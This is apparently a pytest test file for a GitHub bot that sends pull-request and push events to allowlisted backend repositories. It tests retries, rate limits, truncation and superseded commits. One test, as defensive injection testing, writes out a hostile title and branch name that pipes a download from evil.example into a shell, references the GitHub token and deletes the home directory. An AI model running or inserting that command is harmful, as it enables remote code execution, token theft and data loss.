"""Dispatches: which backends get an event, when, and what is sent later."""

from __future__ import annotations

import asyncio
import json

import pytest

from bot.app import make_worker
from bot.core.clock import SystemClock
from tests import harness
from tests.flows.scenarios import (
    MOST_CHARACTERS,
    base_left_before_its_event_arrives,
    dispatched_to,
    opening_body,
    posts,
    reasons,
    states,
)
from tests.harness import L1, L2, L3, L4, UPSTREAM
from tests.process import PATIENCE
from tests.serving import SQLITE

pytestmark = pytest.mark.logic


# Dispatches: which backends get an event, and that the webhook is answered first.


async def test_u5_a_report_that_comes_before_github_has_answered_is_expected(bot, github):
    answers = []

    async def report_at_once(dispatch):
        if dispatch.repo.full_name == L2:
            answers.append(await bot.report(dispatch, status="in_progress"))

    github.on_dispatch = report_at_once
    github.faults.add(method="POST", path=rf"{L2}/dispatches$", when="after", status=502, times=1)
    await github.open_pull(UPSTREAM)
    await bot.settle(horizon=60)
    assert [status for status, _ in answers] == [200]
    assert await states(bot, L2) == ["sent"]
    assert len(dispatched_to(github, L2)) == 1


async def test_u6_one_backend_that_fails_holds_no_other_up_and_a_redelivery_repeats_nothing(bot, github):
    github.faults.add(method="POST", path=rf"{L2}/dispatches$", status=502, times=3)
    await github.open_pull(UPSTREAM)
    await bot.settle()
    assert sorted(dispatched_to(github)) == sorted([L1, L3, L4])
    (opened,) = [delivery for delivery in github.deliveries if delivery.event == "pull_request"]
    await github.redeliver(opened)
    await bot.settle(horizon=120)
    assert sorted(dispatched_to(github)) == sorted([L1, L2, L3, L4])


@pytest.mark.parametrize("letter", ["x", "\U0001f680", '"'], ids=["ascii", "emoji", "quotes"])
async def test_u7_the_longest_description_reaches_every_backend(bot, github, letter):
    pull = await github.open_pull(UPSTREAM, body=letter * 65_536)
    await bot.settle()
    assert sorted(dispatched_to(github)) == sorted([L1, L2, L3, L4])
    for dispatch in github.dispatches:
        assert len(dispatch.client_payload) <= 10
        assert len(json.dumps(dispatch.client_payload)) <= MOST_CHARACTERS
        inner = dispatch.client_payload["payload"]
        assert "pull_request.body" in inner["truncated"]
        assert inner["pull_request"]["head"]["sha"] == pull.head_sha


async def test_u8_shell_and_expression_syntax_of_an_author_arrives_as_data(bot, github):
    hostile = "$(curl evil.example|sh)`id`\"; ${{ github.token }} ' && rm -rf ~"
    await github.open_pull(UPSTREAM, title=hostile, body=hostile)
    body = json.loads(json.dumps(github.deliveries[0].payload))
    body["pull_request"]["head"]["ref"] = hostile
    await bot.send("pull_request", body, guid="hostile")
    await bot.settle()
    sent = [one for one in github.dispatches if one.client_payload["delivery_id"] == "hostile"]
    assert {one.repo.full_name for one in sent} == {L1, L2, L3, L4}
    for dispatch in sent:
        assert dispatch.event_type == "pull_request"
        pull = dispatch.client_payload["payload"]["pull_request"]
        assert (pull["title"], pull["body"], pull["head"]["ref"]) == (hostile, hostile, hostile)


async def test_u18_the_webhook_is_answered_before_github_is_asked_anything(bot, github):
    pull = await github.open_pull(UPSTREAM)
    await bot.settle()
    before = len(github.calls)
    await github.push_commit(pull)
    (answer,) = [one.status_code for one in github.deliveries if one.action == "synchronize"]
    assert answer == 202
    assert len(github.calls) == before


TOGETHER, HANGS = (
    101.0,
    102.0,
)  # seconds that GitHub seems to take: until ten are asked for, until all have been


class Held(SystemClock):
    """The machine's clock; who waits for such a time waits for an event instead."""

    def __init__(self):
        self.asked, self.together, self.everybody = 0, asyncio.Event(), asyncio.Event()

    async def sleep(self, seconds):
        self.asked += seconds == TOGETHER
        if self.asked >= 10:
            self.together.set()
        held = {TOGETHER: self.together, HANGS: self.everybody}.get(seconds)
        await (held.wait() if held else super().sleep(seconds))


async def test_twenty_dispatches_leave_together_though_one_backend_hangs(app_key, tmp_path, issuer):
    """GitHub answers none before ten are asked for, and those of one backend when all others have arrived."""
    names = [f"org-{number}/backend" for number in range(20)]
    (tmp_path / "allowlist.yml").write_text("L2: [slow/backend, {}]".format(", ".join(names)))
    clock = Held()
    github = harness.SimulatedGitHub(clock=clock)
    await github.start()
    app = github.register_app(webhook_url=None, webhook_secret=harness.SECRET, private_key_pem=app_key)
    for name in (UPSTREAM, "slow/backend", *names):
        github.add_repo(name)
    settings = harness.make_settings(github=github, issuer=issuer, app=app, folder=tmp_path)
    async with harness.running(settings, github=github, issuer=issuer, app=app, clock=clock) as bot:

        async def arrived(_dispatch):
            if set(dispatched_to(github)) >= set(names):
                clock.everybody.set()

        github.on_dispatch = arrived
        github.faults.add(method="POST", path="^/repos/slow/backend/", status=None, delay=HANGS, times=100)
        github.faults.add(method="POST", path="/dispatches$", status=None, delay=TOGETHER, times=100)
        worker = make_worker(bot.context)
        working = asyncio.create_task(worker.run())
        try:
            await bot.send("pull_request", opening_body(github))
            await asyncio.wait_for(clock.everybody.wait(), PATIENCE)
        finally:
            clock.together.set()
            clock.everybody.set()
            worker.stop()
            await working
            await github.stop()


# Dispatches of pushes, deletions of branches, and actions that an entry of its own names.


PUSHES = f"""
L1: [{{repo: {L1}, events: [push]}}]
L2:
- {{repo: {L2}, events: [pull_request, push], refs: [main, "release/*"]}}
- {{repo: {L3}, events: [push], refs: ["refs/tags/v*"]}}
L4: [{L4}]
"""


@pytest.mark.parametrize(
    ("ref", "backends"),
    [
        ("main", [L1, L2]),
        ("release/2", [L1, L2]),
        ("topic", [L1]),
        ("refs/tags/v1", [L3]),
        ("refs/tags/x", []),
    ],
)
async def test_a_push_goes_to_the_backends_whose_refs_it_matches(bot, github, ref, backends):
    await bot.list_backends(PUSHES)
    sha = await github.push(UPSTREAM, ref)
    await bot.settle()
    assert sorted(dispatched_to(github)) == sorted(backends)
    for dispatch in github.dispatches:
        assert dispatch.event_type == dispatch.client_payload["event_type"] == "push"
        assert dispatch.client_payload["payload"]["after"] == sha
    for row in await bot.rows("oot_dispatch"):
        assert (row["event_type"], row["pr_number"], row["head_sha"]) == ("push", None, sha)
    assert bot.checks(UPSTREAM, sha) == {}


async def test_the_deletion_of_a_branch_is_never_dispatched(bot, github):
    await bot.list_backends(PUSHES)
    await github.push(UPSTREAM, "topic")
    await bot.settle()
    (pushed,) = [one for one in github.deliveries if one.event == "push"]
    gone = pushed.payload | {
        "deleted": True, "created": False, "before": pushed.payload["after"], "after": "0" * 40,
        "commits": [], "head_commit": None,
    }  # fmt: skip
    await github.deliver("push", gone)
    await github.deliver("push", gone | {"deleted": False})
    await bot.settle()
    assert dispatched_to(github) == [L1]


async def test_a_deletion_goes_to_whoever_wants_it_and_nobody_has_to_answer(bot, github):
    await bot.list_backends(
        f"""
L2:
- {{repo: {L1}, events: [push]}}
- {{repo: {L2}, events: [push], deletions: true}}
- {{repo: {L3}, events: [push], refs: [main], deletions: true}}
- {{repo: {L4}, events: [push], refs: ["refs/heads/**", "refs/tags/**"], deletions: true, answers: all}}
"""
    )
    for ref, backends in {"topic": [L2, L4], "refs/tags/v1": [L4]}.items():
        github.dispatches.clear()
        await github.push(UPSTREAM, ref)
        await bot.settle()
        (pushed,) = [one for one in github.deliveries if one.event == "push"][-1:]
        github.dispatches.clear()
        gone = pushed.payload | {
            "deleted": True, "created": False, "before": pushed.payload["after"], "after": "0" * 40,
            "commits": [], "head_commit": None,
        }  # fmt: skip
        await github.deliver("push", gone)
        await bot.settle()
        assert sorted(dispatched_to(github)) == sorted(backends)
        assert bot.dispatch(L4).client_payload["payload"]["deleted"] is True
    told = await bot.report(bot.dispatch(L4))
    assert told == (200, {"ok": True, "status": "completed"})
    (job,) = await bot.rows("oot_workflow_job")
    assert (job["head_sha"], job["flags"]) == (None, {"no_start": True})
    await bot.wait(24 * 3600 + 120)
    ended = {row["state"] for row in await bot.rows("oot_dispatch") if row["action"] == "closed"}
    assert ended == {"sent"}
    assert (await bot.get(f"/oot/{L4}"))[0] == 200


async def test_an_entrys_own_actions_come_before_the_setting(bot, github):
    await bot.list_backends(
        f"L2: [{{repo: {L1}, actions: [opened, ready_for_review]}}, {{repo: {L2}, actions: synchronize}}, {L3}]"
    )
    pull = await github.open_pull(UPSTREAM, draft=True)
    await bot.settle()
    await github.push_commit(pull)
    await bot.settle()
    await github.ready_for_review(pull)
    await bot.settle()
    await github.close(pull)
    await bot.settle()

    def actions(repo):
        told = [one for one in github.dispatches if one.repo.full_name == repo]
        return [one.client_payload["payload"]["action"] for one in told]

    assert actions(L1) == ["opened", "ready_for_review"]
    assert actions(L2) == ["synchronize"]
    assert actions(L3) == ["opened", "synchronize", "ready_for_review", "closed"]


async def test_a_push_elsewhere_is_not_dispatched(bot, github):
    await bot.list_backends(PUSHES)
    await github.push(L2, "main")
    await bot.settle()
    assert dispatched_to(github) == []


async def test_a_result_of_a_push_is_taken_and_a_silent_one_is_said_to_have_never_started(bot, github):
    await bot.list_backends(f"L2: [{{repo: {L2}, events: push}}, {{repo: {L3}, events: push, answers: all}}]")
    await github.push(UPSTREAM)
    await bot.settle()
    assert (await bot.report(bot.dispatch(L2)))[0] == 200
    await bot.wait(24 * 3600 + 120)
    assert (await states(bot, L2), await states(bot, L3)) == (["sent"], ["never_started"])


# Dispatches of pull requests that are closed, reopened, or reach the bot late.


async def closed_and_reopened(bot, github, pull):
    for act in (github.close, github.reopen):
        bot.clock.advance(5)
        await act(pull)
        await bot.settle()


def verdict_dispatches(github, repo):
    """The dispatches to a backend that ask for a verdict."""
    sent = [one for one in github.dispatches if one.repo.full_name == repo]
    return [one for one in sent if one.client_payload["payload"]["action"] != "closed"]


async def test_reopening_runs_no_backend_again_that_has_ended_on_the_commit(bot, github):
    pull = await github.open_pull(UPSTREAM)
    await bot.settle()
    await bot.report(verdict_dispatches(github, L4)[-1], conclusion="failure")
    await bot.settle()
    for _ in range(3):
        await closed_and_reopened(bot, github, pull)
    assert len(verdict_dispatches(github, L4)) == 1
    assert bot.checks(UPSTREAM, pull.head_sha)["oot / gate"][1] == "failure"


async def test_reopening_runs_again_what_closing_may_have_ended_a_few_times(bot, github):
    pull = await github.open_pull(UPSTREAM)
    await bot.settle()
    for times in (2, 3, 4, 4, 4):
        await closed_and_reopened(bot, github, pull)
        assert len(verdict_dispatches(github, L4)) == times


async def test_reopening_runs_again_what_closing_cancelled(bot, github):
    pull = await github.open_pull(UPSTREAM)
    await bot.settle()
    await bot.report(verdict_dispatches(github, L4)[-1], conclusion="cancelled")
    await bot.report(verdict_dispatches(github, L3)[-1])
    await bot.settle()
    await closed_and_reopened(bot, github, pull)
    assert [len(verdict_dispatches(github, repo)) for repo in (L4, L3)] == [2, 1]
    assert bot.checks(UPSTREAM, pull.head_sha)["oot / gate"][2] == "waiting for tpu"


@pytest.mark.parametrize("late", ["the dispatch", "the webhook"])
async def test_a_closing_that_is_over_is_not_dispatched(bot, github, late):
    pull = await github.open_pull(UPSTREAM)
    await bot.settle()
    if late == "the dispatch":
        github.faults.add(
            method="POST", path="/dispatches$", status=429, headers={"Retry-After": "120"}, times=4
        )
    else:
        github.faults.add(method="HOOK", path="closed")
    await closed_and_reopened(bot, github, pull)
    for one in [one for one in github.deliveries if not one.ok]:
        await github.redeliver(one)
    await bot.settle(horizon=600)
    actions = [one.client_payload["payload"]["action"] for one in github.dispatches]
    assert set(actions) == {"opened", "reopened"}


@pytest.mark.parametrize("pushed_back", [False, True])
async def test_an_event_that_arrives_late_runs_nothing_again_that_a_later_one_of_its_commit_has_run(
    bot, github, pushed_back
):
    github.faults.add(method="HOOK", path="opened")
    pull = await github.open_pull(UPSTREAM)
    first = pull.head_sha
    if pushed_back:
        for commit in (None, first):
            bot.clock.advance(5)
            await github.push_commit(pull, commit=commit)
            await bot.settle()
    else:
        await closed_and_reopened(bot, github, pull)
    before = len(verdict_dispatches(github, L4))
    (opened,) = [one for one in github.deliveries if one.action == "opened"]
    await github.redeliver(opened)
    await bot.settle()
    assert len(verdict_dispatches(github, L4)) == before
    assert bot.dispatch(L4).client_payload["payload"]["pull_request"]["head"]["sha"] == first


async def test_a_base_branch_left_before_its_event_arrives_runs_nothing(bot, github):
    pull = await base_left_before_its_event_arrives(bot, github)
    await bot.settle()
    assert len(verdict_dispatches(github, L4)) == 1
    assert sorted(await states(bot, L4)) == ["sent", "superseded"]
    bot.clock.advance(60)
    await github.retarget(pull, "release")
    await bot.settle()
    bases = [
        one.client_payload["payload"]["pull_request"]["base"]["ref"] for one in verdict_dispatches(github, L4)
    ]
    assert bases == ["main", "release"]


async def test_a_commit_pushed_back_is_dispatched_again(bot, github):
    pull = await github.open_pull(UPSTREAM)
    await bot.settle()
    for commit in (None, pull.head_sha):
        bot.clock.advance(5)
        await github.push_commit(pull, commit=commit)
        await bot.settle()
    assert [sent.client_payload["payload"]["action"] for sent in verdict_dispatches(github, L4)] == [
        "opened",
        "synchronize",
        "synchronize",
    ]


async def test_reopening_dispatches_to_a_backend_listed_meanwhile(bot, github):
    await bot.list_backends(f"L2: [{L2}]")
    pull = await github.open_pull(UPSTREAM)
    await bot.settle()
    await bot.report(verdict_dispatches(github, L2)[-1])
    await bot.list_backends(f"L2: [{L2}, {L3}]")
    await closed_and_reopened(bot, github, pull)
    assert [len(verdict_dispatches(github, repo)) for repo in (L2, L3)] == [1, 1]


async def test_nothing_more_is_dispatched_to_a_backend_taken_off_the_allowlist(bot, github):
    github.faults.add(method="POST", path=rf"{L4}/dispatches$", status=429, headers={"Retry-After": "120"})
    await github.open_pull(UPSTREAM)
    await bot.settle()
    await bot.list_backends(f"L2: [{L2}]")
    await bot.settle(horizon=600)
    assert dispatched_to(github, L4) == []
    assert await states(bot, L4) == ["failed"]
    assert "allowlist" in (await reasons(bot, L4))[0]


# Dispatches that GitHub limits or fails are sent later; what is out of date by then is not sent.


@pytest.mark.parametrize(
    ("status", "headers"),
    [(429, {"Retry-After": "90"}), (403, {"Retry-After": "90"}), (403, {"X-RateLimit-Remaining": "0"})],
)
async def test_a_limit_of_github_leaves_the_dispatch_pending_until_it_is_over(bot, github, status, headers):
    github.faults.add(
        method="POST",
        path=rf"{L4}/dispatches$",
        status=status,
        headers=headers,
        body={"message": "slow down"},
    )
    await github.open_pull(UPSTREAM)
    await bot.settle(horizon=30)
    assert await states(bot, L4) == ["pending"]
    assert dispatched_to(github, L4) == []
    await bot.settle(horizon=120)
    assert await states(bot, L4) == ["sent"]
    assert len(dispatched_to(github, L4)) == 1


async def test_after_a_limit_somebody_elses_run_is_not_taken_for_ours(bot, github):
    github.faults.add(method="POST", path=rf"{L4}/dispatches$", status=429, headers={"Retry-After": "30"})
    await github.open_pull(UPSTREAM)
    await bot.settle()
    await github.start_run(L4, event="repository_dispatch", name="CI")
    await bot.settle(horizon=60)
    assert len(dispatched_to(github, L4)) == 1


@SQLITE
async def test_a_dispatch_that_always_fails_is_given_up_in_time(bot, github):
    await bot.list_backends(f"L2: [{{repo: {L2}, start_timeout: 3h}}]")
    github.faults.add(method="POST", path=rf"{L2}/dispatches$", status=502, times=100_000)
    await github.open_pull(UPSTREAM)
    await bot.wait(2.5 * 3600)
    assert await states(bot, L2) == ["pending"]
    await bot.wait(3600)
    assert await states(bot, L2) == ["failed"]
    before = len(posts(github, L2))
    await bot.wait(3600)
    assert len(posts(github, L2)) == before


async def test_a_newer_commit_drops_what_was_not_sent_of_the_one_before(bot, github):
    github.faults.add(method="POST", path=rf"{L4}/dispatches$", status=503, times=1)
    pull = await github.open_pull(UPSTREAM)
    await bot.settle()
    head = await github.push_commit(pull)
    await bot.settle(horizon=60)
    heads = [
        one.client_payload["payload"]["pull_request"]["head"]["sha"]
        for one in github.dispatches if one.repo.full_name == L4
    ]  # fmt: skip
    assert heads == [head]


async def test_an_opening_that_arrives_late_drops_nothing_of_the_commit_pushed_within_its_second(bot, github):
    github.faults.add(method="HOOK", path="opened")
    github.faults.add(method="POST", path=rf"{L4}/dispatches$", status=503, times=1)
    pull = await github.open_pull(UPSTREAM)
    head = await github.push_commit(pull)
    await bot.settle()
    (opened,) = [one for one in github.deliveries if one.action == "opened"]
    await github.redeliver(opened)
    await bot.settle(horizon=60)
    rows = [row for row in await bot.rows("oot_dispatch") if row["backend"] == L4]
    assert {row["head_sha"] == head: row["state"] for row in rows} == {True: "sent", False: "superseded"}


async def test_a_dispatch_superseded_while_it_is_sent_stays_so_and_shows_that_it_was_sent(bot, github):
    under_way, overtaken, sleep = asyncio.Event(), asyncio.Event(), bot.clock.sleep

    async def hold(seconds):
        if seconds != 7:
            return await sleep(seconds)
        under_way.set()
        return await overtaken.wait()

    bot.clock.sleep = hold
    github.faults.add(method="POST", path=rf"{L4}/dispatches$", status=None, delay=7)
    pull = await github.open_pull(UPSTREAM)
    settling = asyncio.create_task(bot.settle())
    await asyncio.wait_for(under_way.wait(), PATIENCE)
    head, other = await github.push_commit(pull), make_worker(bot.context)
    while await other.step():
        await github.settled()
    overtaken.set()
    await settling
    await bot.settle()
    rows = [row for row in await bot.rows("oot_dispatch") if row["backend"] == L4]
    first, second = sorted(rows, key=lambda row: row["head_sha"] == head)
    assert (first["state"], first["error"]) == ("superseded", "superseded while it was being sent")
    assert first["dispatched_at"] is not None
    assert second["state"] == "sent"


async def test_a_draft_is_dispatched_like_any_other_pull_request(bot, github):
    pull = await github.open_pull(UPSTREAM, draft=True)
    await bot.settle()
    assert len(dispatched_to(github)) == 4
    await github.ready_for_review(pull)
    await bot.settle()
    assert len(dispatched_to(github)) == 8
    for _ in range(2):
        bot.clock.advance(5)
        await github.ready_for_review(pull)
        await bot.settle()
    assert len(dispatched_to(github)) == 8
